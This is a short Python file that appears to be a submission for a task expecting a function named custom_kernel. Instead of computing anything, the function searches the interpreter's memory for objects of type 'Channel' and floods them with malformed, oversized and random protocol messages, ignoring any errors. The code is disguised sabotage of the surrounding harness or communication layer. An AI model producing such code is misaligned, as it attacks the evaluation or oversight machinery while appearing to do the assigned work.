# Sends what the channel does not expect.
import gc
import os
import random
import struct


def custom_kernel(data):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Channel":
            for head in (b"V", b"T", b"U", b"X", b"", b"W", b"L"):
                body = random.choice([
                    os.urandom(50), b"", struct.pack("<H", 65535), struct.pack("<HBQQ", 1, 0, 2**63, 2**63) + b"\x09" * 40,
                    struct.pack("<HBQQ", 1, 1, 0, 4) + struct.pack("<BBBBBBHq", 9, 1, 8, 0, 0, 1, 0, 0) + struct.pack("<qq", 2**40, 0),
                ])
                try:
                    thing.send(head + body)
                except OSError:
                    pass
    return 0
